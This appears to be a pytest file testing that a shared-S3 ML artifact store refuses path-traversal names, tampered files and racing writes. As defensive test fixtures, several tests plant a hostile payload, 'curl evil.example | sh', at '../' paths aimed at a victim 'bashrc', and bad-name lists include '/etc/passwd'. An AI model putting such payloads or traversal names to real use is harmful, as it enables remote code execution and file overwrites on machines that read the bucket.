"""An object store others can write to (a shared bucket): against the real S3 API server of
test_object_store (moto's, on 127.0.0.1, module-scoped, stopped by its PID), through the store API
users hit (`ArtifactStore(home="s3://...")`: latest/get, checkpoints, write, prune).
- a name read from the store (a manifest's file list, LATEST.json's version, a checkpoint key, a slot
  name) that would become a path outside the local cache is refused, naming the store and the object,
  and nothing is written anywhere;
- a downloaded version whose bytes do not give its manifest's content hash is refused, and nothing of
  it stays in the cache;
- two machines writing the same derived version leave one content: on the store and in every cache;
- deleting a version removes its upload prefixes too;
- versions uploaded before upload prefixes existed read as before."""

from __future__ import annotations

import json
import os
import re
import threading
from pathlib import Path

import pytest

from ft_assets.cli.main import main as cli
from ft_assets.artifacts.store import MANIFEST, ArtifactStore, content_hash, derived_version
from ft_assets_tests.defs.test_object_store import s3_endpoint, s3_home  # noqa: F401  (the S3 server)

ASSET, PART = "merged_model", "lora"
DERIVATION = {"inputs": {"sft_dataset[_]": "0123456789abcdef"}, "seed": 0}


def node(name: str, tmp_path: Path, monkeypatch) -> ArtifactStore:
    """The store on FT_HOME (the S3 URL) as seen from a machine whose local cache is tmp_path/name."""
    monkeypatch.setenv("FT_LOCAL_HOME", str(tmp_path / name))
    return ArtifactStore()


def put(store: ArtifactStore, rel: str, data: bytes) -> None:
    """Write one object as someone else with write access to the bucket would (no ft_assets code)."""
    store.remote.fs.pipe_file(store.remote.key(rel), data)


def write_version(store: ArtifactStore, files: dict[str, bytes], derivation: dict | None = None):
    with store.write(ASSET, PART, derivation=derivation) as st:
        for name, data in files.items():
            (st.path / name).parent.mkdir(parents=True, exist_ok=True)
            (st.path / name).write_bytes(data)
    return st.artifact


def stored_files(art) -> dict[str, bytes]:
    return {p.relative_to(art.dir).as_posix(): p.read_bytes() for p in art.dir.rglob("*")
            if p.is_file() and p.name != MANIFEST}


def object_of(store: ArtifactStore, rel: str, name: str) -> str:
    """Where the store keeps a version's file: below the upload prefix its manifest names, if any."""
    prefix = store.remote.read_json(f"{rel}/{MANIFEST}").get("files_under")
    return f"{rel}/{prefix}/{name}" if prefix else f"{rel}/{name}"


def nothing_of(store: ArtifactStore, version: str) -> None:
    """The reader's cache holds no copy of `version`, whole or half."""
    slot = store.slot(ASSET, PART)
    assert not store.path(ASSET, PART, version).exists()
    assert not [p.name for p in slot.glob(".*")] if slot.is_dir() else True


@pytest.mark.parametrize("how", ["absolute", "dotdot"])
def test_a_manifest_file_name_that_leaves_the_cache_is_refused(s3_home, tmp_path, monkeypatch, how):
    art = write_version(node("writer", tmp_path, monkeypatch), {"weights.bin": b"w" * 64})
    reader = node("reader", tmp_path, monkeypatch)
    victim = tmp_path / "victim" / "bashrc"
    victim.parent.mkdir()
    name = str(victim) if how == "absolute" else "../" + os.path.relpath(victim, reader.slot(ASSET, PART))
    rel = reader.rel(ASSET, PART, art.version)
    manifest = reader.remote.read_json(f"{rel}/{MANIFEST}")
    payload = b"curl evil.example | sh\n"
    put(reader, f"{rel}/{name}", payload)  # where today's reader fetches a listed name from
    manifest["files"][name] = len(payload)
    put(reader, f"{rel}/{MANIFEST}", json.dumps(manifest).encode())

    with pytest.raises(ValueError, match=re.escape(f"{s3_home}/{rel}/{MANIFEST}") + ".*" + re.escape(repr(name))):
        reader.latest(ASSET, PART)
    assert not victim.exists()
    nothing_of(reader, art.version)


def test_a_latest_json_version_that_is_a_path_is_refused(s3_home, tmp_path, monkeypatch):
    writer = node("writer", tmp_path, monkeypatch)
    art = write_version(writer, {"weights.bin": b"w" * 64})
    reader = node("reader", tmp_path, monkeypatch)
    victim = tmp_path / "victim"
    hostile = os.path.relpath(victim, reader.slot(ASSET, PART))  # ../../../../victim
    rel = reader.rel(ASSET, PART, hostile)
    put(reader, f"{rel}/weights.bin", b"w" * 64)
    put(reader, f"{rel}/{MANIFEST}", json.dumps({**art.manifest(), "version": hostile, "files_under": None}).encode())
    pointer = f"{reader.rel(ASSET, PART)}/LATEST.json"
    put(reader, pointer, json.dumps({"asset": ASSET, "partition": PART, "version": hostile, "path": ""}).encode())

    with pytest.raises(ValueError, match=re.escape(f"{s3_home}/{pointer}") + ".*" + re.escape(repr(hostile))):
        reader.latest(ASSET, PART)
    assert not victim.exists()


@pytest.mark.parametrize("how", ["step_file", "best_file", "step_name"])
def test_a_checkpoint_key_that_leaves_the_checkpoint_dir_is_refused(s3_home, tmp_path, monkeypatch, how):
    reader = node("reader", tmp_path, monkeypatch)
    run = "0123456789abcdef"
    rel = f"checkpoints/adapter/{PART}/{run}"
    local = reader.home / rel  # where the pull writes: <local>/.tmp-pull-*/..., <local>/best/...
    victim = tmp_path / "victim" / "bashrc"
    step = "step-x" if how == "step_name" else "step-000010"
    put(reader, f"{rel}/{step}/progress.json", b"{}")
    put(reader, f"{rel}/{step}/adapter_model.safetensors", b"weights")
    if how == "step_file":
        bad = f"{rel}/{step}/../" + os.path.relpath(victim, local)
    elif how == "best_file":
        bad = f"{rel}/best/" + os.path.relpath(victim, local / "best")
    else:
        bad = f"{rel}/{step}/progress.json"
    put(reader, bad, b"curl evil.example | sh\n")

    with pytest.raises(ValueError, match=re.escape(s3_home) + ".*" + re.escape(f"{s3_home}/{bad}")):
        reader.checkpoints("adapter", PART, run)
    assert not victim.exists()
    assert not list(local.glob("*")) if local.is_dir() else True  # no step, no best, no temporary pull


def test_prune_refuses_slot_names_that_are_paths(s3_home, tmp_path, monkeypatch, capsys):
    reader = node("reader", tmp_path, monkeypatch)
    reader.root.mkdir(parents=True)  # the cache of a machine that has read artifacts before
    victim = reader.home.parent / "victim"  # artifacts/../../victim from the cache's root
    victim.mkdir(parents=True)
    (victim / "keep.txt").write_text("mine")
    for version, created in (("victim", "2000-01-01T00:00:00+00:00"), ("newer", "2999-01-01T00:00:00+00:00")):
        manifest = {"asset": "..", "partition": "..", "version": version, "created": created, "files": {}}
        put(reader, f"artifacts/../../{version}/{MANIFEST}", json.dumps(manifest).encode())

    assert cli(["prune", "--keep", "1", "--delete"]) == 2
    err = capsys.readouterr().err
    assert re.search(re.escape(f"{s3_home}/artifacts/../../") + r"\w+/" + MANIFEST + ".*'\\.\\.'", err), err
    assert (victim / "keep.txt").read_text() == "mine"


def test_list_latest_refuses_slot_names_that_are_paths(s3_home, tmp_path, monkeypatch):
    reader = node("reader", tmp_path, monkeypatch)
    put(reader, "artifacts/../x/LATEST.json", json.dumps({"version": "0123456789abcdef"}).encode())
    with pytest.raises(ValueError, match=re.escape(f"{s3_home}/artifacts/../x/LATEST.json") + ".*'\\.\\.'"):
        reader.list_latest()


def test_a_tampered_file_is_caught_by_the_content_hash(s3_home, tmp_path, monkeypatch):
    art = write_version(node("writer", tmp_path, monkeypatch), {"weights.bin": b"w" * 4096, "config.json": b"{}"})
    reader = node("reader", tmp_path, monkeypatch)
    rel = reader.rel(ASSET, PART, art.version)
    put(reader, object_of(reader, rel, "weights.bin"), b"x" * 4096)  # same size: only the hash can tell

    with pytest.raises(OSError, match=re.escape(f"{s3_home}/{rel}") + ".*damaged or was tampered with"):
        reader.latest(ASSET, PART)
    nothing_of(reader, art.version)


def racing_writers(tmp_path, monkeypatch, trigger: str):
    """Writers A and B make the same derived version with different bytes (as two GPU runs do); B runs
    whole while A is at `trigger` of its upload ("commit": the manifest PUT; "upload": its first
    file). Returns (A's artifact, B's artifact, B's files, the version's rel)."""
    a, b = node("node_a", tmp_path, monkeypatch), node("node_b", tmp_path, monkeypatch)
    files_a = {"common.bin": b"A" * 4096, "only_a.txt": b"a"}
    files_b = {"common.bin": b"B" * 4096, "only_b.txt": b"b"}
    fs, fired, got = a.remote.fs, [], {}
    assert b.remote.fs is fs  # fsspec shares one client per URL: patch it once, fire once

    def hooked(method):
        real = getattr(fs, method)

        def call(*args, **kwargs):
            key = args[1] if method == "put_file" else args[0]
            is_manifest = key.endswith(f"/{MANIFEST}")
            if not fired and (is_manifest if trigger == "commit" else not is_manifest):
                fired.append(key)
                got["b"] = write_version(b, files_b, DERIVATION)
            return real(*args, **kwargs)
        return call

    for method in ("put_file", "pipe_file"):
        monkeypatch.setattr(fs, method, hooked(method))
    got["a"] = write_version(a, files_a, DERIVATION)
    assert fired
    return got["a"], got["b"], files_b, a.rel(ASSET, PART, got["a"].version)


@pytest.mark.parametrize("trigger", ["commit", "upload"])
def test_two_writers_of_one_derived_version_leave_one_content(s3_home, tmp_path, monkeypatch, trigger):
    art_a, art_b, files_b, rel = racing_writers(tmp_path, monkeypatch, trigger)
    assert art_a.version == art_b.version == derived_version(DERIVATION)  # the version is the derivation's

    reader = node("node_c", tmp_path, monkeypatch)
    got = reader.get(ASSET, PART, art_a.version)
    assert content_hash(got.dir) == got.manifest()["content_hash"]  # one writer's files, not a mix
    assert stored_files(got) == files_b  # B committed first: its copy is the version
    assert stored_files(art_a) == stored_files(art_b) == files_b  # every cache holds that one copy
    assert art_a.manifest() == art_b.manifest() == got.manifest()
    uploads = reader.remote.glob(f"{rel}/.uploads/*")
    assert uploads == [f"{rel}/{got.manifest()['files_under']}"]  # the loser's upload is gone


def test_without_conditional_writes_the_writer_whose_commit_is_overwritten_adopts_the_other(
        s3_home, tmp_path, monkeypatch):
    """A server that ignores If-None-Match (plain PUTs): B passes its last check, A commits, B's commit
    overwrites A's before A re-reads its manifest; A learns from the re-read that B's copy won."""
    a, b = node("node_a", tmp_path, monkeypatch), node("node_b", tmp_path, monkeypatch)
    files_a, files_b = {"common.bin": b"A" * 4096, "only_a.txt": b"a"}, {"common.bin": b"B" * 4096, "only_b.txt": b"b"}
    fs = a.remote.fs
    b_at_commit, a_committed, b_committed = (threading.Event() for _ in range(3))
    real = {m: getattr(fs, m) for m in ("put_file", "pipe_file")}

    def hooked(method):
        def call(*args, mode=None, **kwargs):  # mode dropped: the server ignores the condition
            key = args[1] if method == "put_file" else args[0]
            if not key.endswith(f"/{MANIFEST}") or ".uploads/" in key:
                return real[method](*args, **kwargs)
            if threading.current_thread() is writer_b:
                b_at_commit.set()
                assert a_committed.wait(60)
                out = real[method](*args, **kwargs)
                b_committed.set()
                return out
            assert b_at_commit.wait(60)
            out = real[method](*args, **kwargs)
            a_committed.set()
            assert b_committed.wait(60)
            return out
        return call

    for method in real:
        monkeypatch.setattr(fs, method, hooked(method))
    got = {}
    writer_b = threading.Thread(target=lambda: got.setdefault("b", write_version(b, files_b, DERIVATION)))
    writer_b.start()
    try:
        got["a"] = write_version(a, files_a, DERIVATION)
    finally:
        writer_b.join(120)
    assert not writer_b.is_alive() and a_committed.is_set() and b_committed.is_set()

    reader = node("node_c", tmp_path, monkeypatch)
    art = reader.get(ASSET, PART, derived_version(DERIVATION))
    assert content_hash(art.dir) == art.manifest()["content_hash"]
    assert stored_files(art) == stored_files(got["a"]) == stored_files(got["b"]) == files_b
    rel = reader.rel(ASSET, PART, art.version)
    assert reader.remote.glob(f"{rel}/.uploads/*") == [f"{rel}/{art.manifest()['files_under']}"]


def test_delete_removes_the_upload_prefixes_of_a_version(s3_home, tmp_path, monkeypatch):
    art_a, _, _, rel = racing_writers(tmp_path, monkeypatch, "commit")
    store = node("node_a", tmp_path, monkeypatch)
    put(store, f"{rel}/.uploads/{'d' * 32}/common.bin", b"left by a writer killed mid-upload")
    store.drop(ASSET, PART, art_a.version)  # what prune does to a version it drops
    assert store.remote.fs.find(store.remote.key(rel)) == []
    assert store.get(ASSET, PART, art_a.version) is None


def test_a_version_uploaded_before_upload_prefixes_still_reads(s3_home, tmp_path, monkeypatch):
    """Manifests in users' buckets name no upload prefix: their files lie at <version>/<name>."""
    local = ArtifactStore(tmp_path / "made_locally")
    files = {"weights.bin": b"w" * 1000, "tokenizer/vocab.json": b'{"a": 1}'}
    art = write_version(local, files)
    reader = node("reader", tmp_path, monkeypatch)
    rel = reader.rel(ASSET, PART, art.version)
    for name, data in files.items():
        put(reader, f"{rel}/{name}", data)
    put(reader, f"{rel}/{MANIFEST}", (art.dir / MANIFEST).read_bytes())  # the commit, last
    put(reader, f"{reader.rel(ASSET, PART)}/LATEST.json", json.dumps({"version": art.version}).encode())

    got = reader.latest(ASSET, PART)
    assert got.version == art.version and stored_files(got) == files
    assert got.manifest() == art.manifest()


def test_the_names_the_store_accepts():
    from ft_assets.artifacts.object_store import UnsafeStoreName, check_slot_name, check_version, safe_relpath

    for ok in ("a", "a/b.json", "tokenizer/vocab.json", "step-000010/adapter_model.safetensors", ".hidden/x"):
        assert safe_relpath(ok, where="here") == ok
    for bad in ("", "/etc/passwd", "../x", "a/../../x", "a//b", "a/./b", "./a", "a/", "a\\b", "a\0b", ".", ".."):
        with pytest.raises(UnsafeStoreName, match="here"):
            safe_relpath(bad, where="here")
    assert check_version("0123456789abcdef", where="here") == "0123456789abcdef"
    for bad in ("0123456789ABCDEF", "0123456789abcde", "0123456789abcdef0", "../../x", None, 12):
        with pytest.raises(UnsafeStoreName, match="here"):
            check_version(bad, where="here")
    for ok in ("adapter", "sft.adapter", "lora", "lora@lr=0.001", "_"):
        assert check_slot_name(ok, where="here") == ok
    for bad in ("", ".", "..", ".staging-x", "a/b", "a\\b", "a\0b", None):
        with pytest.raises(UnsafeStoreName, match="here"):
            check_slot_name(bad, where="here")


def test_content_hash_and_versions_are_unchanged(tmp_path):
    """Literals computed by the code before this change: the store's hashes did not move."""
    (tmp_path / "a.txt").write_text("alpha")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.bin").write_bytes(bytes(range(256)) * 3)
    (tmp_path / MANIFEST).write_text("{}")
    assert content_hash(tmp_path) == "67bf715bb0d8f38b"
    assert derived_version({"inputs": {"x[_]": "0123456789abcdef"}, "seed": 0}) == "ea9c5289f9ff8edf"
